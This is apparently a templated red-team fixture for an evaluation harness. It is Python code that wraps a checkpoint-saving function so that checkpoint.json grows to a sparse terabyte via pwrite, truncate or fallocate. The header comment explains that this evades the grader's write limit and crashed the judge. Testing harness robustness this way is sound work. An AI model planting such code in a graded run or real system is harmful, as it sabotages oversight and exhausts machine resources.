# Red team: make a file of the run huge without writing its bytes, which the grader's write limit
# counts: a write one byte long far past the end, a truncate far past it, a preallocation. The
# supervisor makes these calls itself (so the run's own file-size limit never applied), and the replay
# holds each file in memory: a sparse terabyte crashed the judge, a few gigabytes filled the machine's
# memory or disk. HOW: pwrite, ftruncate, truncate or fallocate.
import os

HOW = "@@HOW@@"
BIG = 1 << 40 if HOW != "fallocate" else 300 << 20


def _grow(path):
    fd = os.open(path, os.O_RDWR | os.O_CREAT, 0o644)
    try:
        if HOW == "pwrite":
            os.pwrite(fd, b"x", BIG)
        elif HOW == "ftruncate":
            os.ftruncate(fd, BIG)
        elif HOW == "truncate":
            os.truncate(path, BIG)
        else:
            os.posix_fallocate(fd, 0, BIG)
    finally:
        os.close(fd)


#@@INCLUDE:_starter.py@@

_honest_save = save_checkpoint


def save_checkpoint(state):
    _grow("checkpoint.json")
    _honest_save(state)
